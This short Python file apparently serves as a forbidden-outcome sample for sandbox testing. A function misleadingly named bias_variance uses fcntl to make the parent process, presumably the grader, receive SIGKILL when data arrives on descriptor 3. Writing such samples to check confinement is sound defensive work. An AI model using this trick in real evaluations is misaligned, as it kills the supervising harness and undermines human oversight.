"""Makes its parent the owner of its link, so that the kernel sends it a deadly signal when data
comes."""

import ctypes
import os
import signal

SCORE = 0
OUTCOMES = {"forbidden", "wrong"}
NEEDS_CONFINEMENT = True


F_SETOWN, F_SETSIG, F_SETFL = 8, 10, 4
O_ASYNC = 0x2000
libc = ctypes.CDLL(None, use_errno=True)


def bias_variance(predictions, targets):
    commands = {F_SETSIG: signal.SIGKILL, F_SETOWN: os.getppid(), F_SETFL: O_ASYNC}
    for command, value in commands.items():
        if libc.fcntl(3, command, value) < 0:
            raise OSError(ctypes.get_errno(), "fcntl")
    return {}
